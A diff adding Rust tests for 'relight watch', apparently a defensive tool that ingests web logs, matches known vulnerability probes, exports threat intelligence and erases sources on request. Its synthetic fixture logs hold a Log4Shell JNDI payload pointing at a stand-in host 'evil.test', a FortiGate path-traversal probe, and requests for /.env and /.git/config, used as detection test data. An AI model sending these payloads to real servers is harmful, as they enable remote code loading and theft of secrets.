@@ -1,0 +1,333 @@
+//! `relight watch`: doors that are known, campaigns for other programs, what logs are like, hunts
+//! and erasure.
+
+use expect_test::expect;
+use serde_json::Value;
+
+use crate::place::Place;
+
+/// One who tries a payload, one who looks around at two sites, and ordinary visitors.
+fn watched() -> Place {
+    let place = Place::with_sites();
+    let mut log = String::new();
+    let mut line = |source: &str, host: &str, day: u32, path: &str, status: u16| {
+        let request = format!("GET {path} HTTP/1.1");
+        log.push_str(&format!(
+            "{host}:443 {source} - - [{day:02}/Nov/2025:10:00:00 +0000] \"{request}\" {status} 9 \
+             \"https://{host}/\" \"Mozilla/5.0\"\n"
+        ));
+    };
+    for day in 1..=28 {
+        line("8.8.4.4", "san1.example", day, "/", 200);
+    }
+    line("45.33.32.156", "san1.example", 9, "/${jndi:ldap://evil.test/a}", 200);
+    line("45.33.32.156", "san1.example", 9, "/remote/fgt_lang?lang=/../../x", 404);
+    line("9.9.9.9", "san2.example", 3, "/remote/login", 404);
+    line("9.9.9.9", "san1.example", 4, "/quiet/door", 404);
+    place.write("access.log", log);
+    place.expect(0, &["watch", "ingest", "access.log", "--org", "Santé Nord"]);
+    place
+}
+
+#[test]
+fn the_catalogue_is_shown() {
+    let place = Place::with_sites();
+    expect![[r#"
+        exchange-proxyshell  a flaw is used  Microsoft Exchange Server: ProxyShell  CVE-2021-34473 CVE-2022-41040
+          https://www.cve.org/CVERecord?id=CVE-2021-34473
+        exchange-proxyshell-mapi  a flaw is used  Microsoft Exchange Server: ProxyShell  CVE-2021-34473
+          https://www.cve.org/CVERecord?id=CVE-2021-34473
+        2 doors
+        --- stderr
+        --- status 0
+    "#]].assert_eq(&place.run(&["watch", "catalogue", "list", "proxyshell"]).text());
+    expect![[r#"
+        moveit  est-ce là?  Progress MOVEit Transfer : MOVEit Transfer
+          https://www.progress.com/trust-center/moveit-transfer-and-moveit-cloud-vulnerability
+        moveit-isapi  une faille est utilisée  Progress MOVEit Transfer : Injection SQL  CVE-2023-34362
+          https://www.cve.org/CVERecord?id=CVE-2023-34362
+        moveit-webshell  est-ce ouvert?  Progress MOVEit Transfer : Recherche d’une porte dérobée  CVE-2023-34362
+          https://www.cve.org/CVERecord?id=CVE-2023-34362
+        moveit-guest  est-ce ouvert?  Progress MOVEit Transfer : Accès d’invités  CVE-2023-34362
+          https://www.cve.org/CVERecord?id=CVE-2023-34362
+        4 portes
+        --- stderr
+        --- status 0
+    "#]]
+        .assert_eq(&place.run(&["watch", "catalogue", "list", "moveit", "--lang", "fr"]).text());
+    let all = place.expect(0, &["watch", "catalogue", "list", "--json"]).json();
+    let entries = all["entries"].as_array().unwrap();
+    assert!(entries.len() >= 200);
+    for entry in entries {
+        assert!(entry["reference"].as_str().unwrap().starts_with("https://"), "{entry}");
+    }
+}
+
+#[test]
+fn local_doors_come_from_templates_and_are_found_as_ours_are() {
+    let place = Place::with_sites();
+    let template = "id: CVE-2099-7\ninfo:\n  name: Town portal\n  tags: cve,lfi\nhttp:\n  \
+        - method: GET\n    path:\n      - \"{{BaseURL}}/town/portal.cgi\"\n";
+    place.write("templates/a.yaml", template);
+    place.write("templates/deep/b.yaml", "just: text\n");
+    expect![[r#"
+        2 templates, 1 entry in DIR/data/catalogue/nuclei.toml
+          no template: 1
+        Next: relight watch catalogue check
+        --- stderr
+        --- status 0
+    "#]]
+    .assert_eq(&place.run(&["watch", "catalogue", "import", "templates"]).text());
+    expect![[r#"
+        1 entry can be used, 0 faults
+        --- stderr
+        --- status 0
+    "#]]
+    .assert_eq(&place.run(&["watch", "catalogue", "check"]).text());
+    let told = place.expect(0, &["watch", "catalogue", "list", "town", "--json"]).json();
+    assert_eq!(told["entries"][0]["local"], true);
+    place.write(
+        "bad.toml",
+        "product = \"X\"\nproducts = []\n[[entry]]\nid = \"x\"\nkind = \"presence\"\nfr = \"x\"\n\
+         en = \"x\"\nmatch = { exact = \"/good\" }\nreference = \"https://a.example/\"\n\
+         since = \"2026\"\nhit = \"/bad\"\nmiss = \"/\"\n",
+    );
+    expect![[r#"
+        0 entries can be used, 1 fault
+        --- stderr
+        warning: bad.toml [x]: the example is not found by the entry
+          technical detail: /bad
+        --- status 1
+    "#]]
+    .assert_eq(&place.run(&["watch", "catalogue", "check", "bad.toml"]).text());
+    // A local door is found as ours are.
+    let line =
+        "192.0.2.7 - - [09/Nov/2025:10:00:00 +0000] \"GET /town/portal.cgi HTTP/1.1\" 404 9\n";
+    place.write("a.log", line);
+    place.expect(0, &["watch", "ingest", "a.log", "--org", "Ville de X", "--site", "mun-001"]);
+    let id = told["entries"][0]["id"].as_str().unwrap();
+    let found = place.run(&["watch", "hunt", id, "--json"]).json();
+    assert_eq!(found["contacts"][0]["site"], "mun-001", "{found}");
+}
+
+#[test]
+fn campaigns_in_the_words_of_other_programs() {
+    let place = watched();
+    let stix = place.expect(0, &["watch", "export", "c-0001", "-f", "stix", "--tlp", "green"]);
+    let bundle: Value = serde_json::from_str(&stix.stdout).unwrap();
+    let objects = bundle["objects"].as_array().unwrap();
+    let kinds = |kind: &str| objects.iter().filter(|it| it["type"] == kind).count();
+    assert_eq!((kinds("campaign"), kinds("indicator"), kinds("sighting")), (1, 1, 1));
+    assert_eq!(kinds("domain-name"), 1);
+    assert!(stix.stdout.contains("TLP:GREEN"));
+    for (format, word) in [
+        ("misp", "\"to_ids\": true"),
+        ("misp-csv", ",ip-src,45.33.32.156,"),
+        ("ocsf", "\"class_uid\":2004"),
+        ("csv", "C-0001,S3,"),
+        ("jsonl", "\"schema\":\"relight.exported-campaign/1\""),
+    ] {
+        let told = place.expect(0, &["watch", "export", "C-0001", "-f", format]);
+        assert!(told.stdout.contains(word), "{format}: {}", told.stdout);
+    }
+    let block = ["watch", "export", "all", "-f", "blocklist"];
+    expect![[r#"
+        --- stderr
+        0 addresses in the list, 1 left out
+          their time is over: 1
+        --- status 0
+    "#]]
+    .assert_eq(&place.run(&block).text());
+    expect![[r#"
+        --- stderr
+        0 adresse dans la liste, 1 écartée
+          leur temps est passé : 1
+        --- status 0
+    "#]]
+    .assert_eq(&place.run(&[&block[..], &["--lang", "fr"]].concat()).text());
+    place.write("never", "# partners\n45.33.0.0/16\nno range\n");
+    let told = place.expect(1, &[&block[..], &["--never", "never"]].concat());
+    assert!(told.stderr.contains("never:3: "), "{}", told.text());
+    place.expect(1, &["watch", "export", "C-0099", "-f", "stix"]);
+    place.expect(2, &["watch", "export", "C-0001", "-f", "word"]);
+    let notes = place.expect(0, &["watch", "notes"]).stdout;
+    assert_eq!(notes.lines().count(), 8, "each look that gave something is noted: {notes}");
+    assert!(notes.lines().all(|line| line.contains("relight watch  export  ")), "{notes}");
+}
+
+#[test]
+fn what_logs_are_like_is_said_site_by_site() {
+    let place = watched();
+    expect![[r#"
+        san-001  no logs since: 2025-11-28T10:00:00Z
+          vhost_combined: 0 events on 0 of 90 days, last  2025-11-28T10:00:00Z
+        san-002  no logs since: 2025-11-03T10:00:00Z
+          vhost_combined: 0 events on 0 of 90 days, last  2025-11-03T10:00:00Z
+        mun-001  no logs ever
+        0 complete, 0 partial, 2 silent, 1 never
+        Next: relight sites gaps
+        --- stderr
+        --- status 0
+    "#]]
+    .assert_eq(&place.run(&["watch", "posture"]).text());
+    let told = place.expect(0, &["watch", "posture", "--state", "never", "--lang", "fr"]);
+    expect![[r#"
+        mun-001  jamais de journaux
+        0 complet, 0 partiel, 2 muets, 1 jamais
+        Ensuite : relight sites gaps
+        --- stderr
+        --- status 0
+    "#]]
+    .assert_eq(&told.text());
+    let gaps = place.expect(0, &["sites", "gaps", "--json"]).json();
+    let logs: Vec<&Value> = gaps["gaps"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|gap| gap["gap"].as_str().unwrap().starts_with("logs-"))
+        .collect();
+    assert!(
+        logs.iter().any(|gap| gap["site"] == "mun-001" && gap["gap"] == "logs-never"),
+        "{gaps}"
+    );
+}
+
+#[test]
+fn hunts_say_what_they_cover() {
+    let place = watched();
+    expect![[r#"
+        2025-11-09T10:00:00Z  45.33.32.156  san-001  known door of the catalogue  404 /remote/fgt_lang
+        1 contact
+          Santé Nord: logs from 2025-11-01 to 2025-11-28, without a missing day
+          Ville de X: no logs of that time: unknown
+        --- stderr
+        --- status 3
+    "#]]
+    .assert_eq(&place.run(&["watch", "hunt", "CVE-2018-13379"]).text());
+    expect![[r#"
+        2025-11-04T10:00:00Z  9.9.9.9  san-001  chemin absent demandé par un inconnu  404 /quiet/door
+        1 contact
+          Santé Nord : journaux du 2025-11-01 au 2025-11-28, sans jour manquant
+          Ville de X : aucun journal de cette période : inconnu
+        --- stderr
+        --- status 3
+    "#]]
+    .assert_eq(&place.run(&["watch", "hunt", "/quiet/door", "--lang", "fr"]).text());
+    let told = place.run(&["watch", "hunt", "45.33.32.156", "--json"]);
+    assert_eq!(told.status, 3, "one body sends no logs: {}", told.text());
+    assert_eq!(told.json()["total"], 2);
+    assert_eq!(place.run(&["watch", "hunt", "two words"]).status, 2);
+}
+
+#[test]
+fn a_source_is_erased_everywhere() {
+    let place = watched();
+    let erase = ["watch", "erase", "45.33.32.156", "--reason", "request 12"];
+    expect![[r#"
+        2 contacts erased
+        --- stderr
+        --- status 0
+    "#]]
+    .assert_eq(&place.run(&erase).text());
+    let told = place.run(&["watch", "hunt", "45.33.32.156", "--json"]);
+    assert_eq!(told.json()["total"], 0);
+    assert_eq!(place.run(&["watch", "hunt", "9.9.9.9", "--json"]).json()["total"], 2);
+    let campaigns = place.expect(0, &["watch", "campaigns", "--json"]).stdout;
+    assert!(!campaigns.contains("45.33.32.156"), "{campaigns}");
+    let notes = place.expect(0, &["watch", "notes"]).stdout;
+    assert!(notes.contains("erase  2 contacts: request 12"), "{notes}");
+    // Lines that were read stay known: the address does not come back with the same log.
+    place.expect(0, &["watch", "ingest", "access.log", "--org", "Santé Nord"]);
+    assert_eq!(place.run(&["watch", "hunt", "evil.test", "--json"]).json()["total"], 0);
+}
+
+/// Six members, none of whom can decide alone; the pool can, and names nobody.
+#[test]
+fn members_see_together_what_none_sees_alone() {
+    let key = "0123456789abcdef".repeat(4);
+    let mut places = Vec::new();
+    let pool = Place::new();
+    let quarters = ["Q1", "Q2", "Q3", "Q4"].map(|quarter| {
+        (2026..2040).map(|year| format!("{year}-{quarter} {key}\n")).collect::<String>()
+    });
+    let keys = quarters.concat();
+    for number in 0..6 {
+        let place = Place::with_sites();
+        let line = |door: &str| {
+            format!(
+                "198.51.100.7 - - [0{}/Nov/2025:10:00:00 +0000] \"GET {door} HTTP/1.1\" 404 9\n",
+                number + 1
+            )
+        };
+        let log: String = ["/.env", "/.git/config", "/remote/login"].map(line).concat();
+        place.write("a.log", log);
+        place.write("keys", &keys);
+        place.expect(0, &["watch", "ingest", "a.log", "--org", "Santé Nord", "--site", "san-001"]);
+        assert_eq!(
+            place.expect(0, &["watch", "campaigns", "--json"]).json()["campaigns"],
+            serde_json::json!([])
+        );
+        let member = format!("member {number}");
+        place.expect(0, &["watch", "share", "out", "--key", "keys", "--member", &member]);
+        pool.write(&format!("{number}.share"), std::fs::read(place.path("out")).unwrap());
+        places.push(place);
+    }
+    let files: Vec<String> = (0..6).map(|number| format!("{number}.share")).collect();
+    let mut arguments = vec!["watch", "pool", "--json"];
+    arguments.extend(files.iter().map(String::as_str));
+    let told = pool.expect(0, &arguments);
+    let document = told.json();
+    assert_eq!(
+        (&document["members"], document["campaigns"].as_array().unwrap().len()),
+        (&6.into(), 1)
+    );
+    assert_eq!(document["campaigns"][0]["organisations"], 6);
+    assert!(!told.stdout.contains("198.51.100"), "{}", told.stdout);
+    // A member with the key knows which of its own sources that is.
+    let member = &places[3];
+    for file in &files {
+        member.write(file, std::fs::read(pool.path(file)).unwrap());
+    }
+    let told = member.expect(0, &[&arguments[..], &["--key", "keys"]].concat()).json();
+    assert_eq!(told["campaigns"][0]["mine"], serde_json::json!(["198.51.100.7"]));
+    member.write("keys", "1999-Q1 00\n");
+    let told = member.expect(1, &["watch", "share", "out", "--key", "keys", "--member", "a"]);
+    assert!(told.stderr.contains("holds no key of the quarter"), "{}", told.text());
+    member.write("bad.share", "something else");
+    member.expect(1, &["watch", "pool", "bad.share"]);
+}
+
+/// Five answers that add up to all sites, and none of them is rounded.
+#[test]
+fn who_was_probed_and_was_it_vulnerable_that_day() {
+    let place = watched();
+    let told = place.run(&["watch", "probed", "CVE-2018-13379", "--days", "4000", "--json"]);
+    assert_eq!(told.status, 3, "{}", told.text());
+    let document = told.json();
+    let counts = document["counts"].as_object().unwrap();
+    assert_eq!(counts.len(), 5);
+    let sum: u64 = counts.values().map(|count| count.as_u64().unwrap()).sum();
+    assert_eq!((sum, document["total"].as_u64()), (3, Some(3)));
+    let answer = |site: &str| {
+        let rows = document["sites"].as_array().unwrap();
+        rows.iter().find(|row| row["site"] == site).unwrap()["answer"].clone()
+    };
+    assert_eq!(answer("san-001"), "probed-unknown", "no inventory of that day");
+    assert_eq!(answer("san-002"), "not-probed");
+    assert_eq!(answer("mun-001"), "no-logs");
+    expect![[r#"
+        essayés, et vulnérables ce jour-là : 0
+        essayés, et personne ne peut dire s’ils étaient vulnérables : 1
+          san-001  2025-11-09 2025-11-09
+        essayés, et non vulnérables : 0
+        non essayés : 1
+        sans journaux de cette période : 1
+          mun-001
+        --- stderr
+        --- status 3
+    "#]]
+    .assert_eq(
+        &place.run(&["watch", "probed", "CVE-2018-13379", "--days", "4000", "--lang", "fr"]).text(),
+    );
+    assert_eq!(place.run(&["watch", "probed", "CVE-1999-0001"]).status, 2);
+}
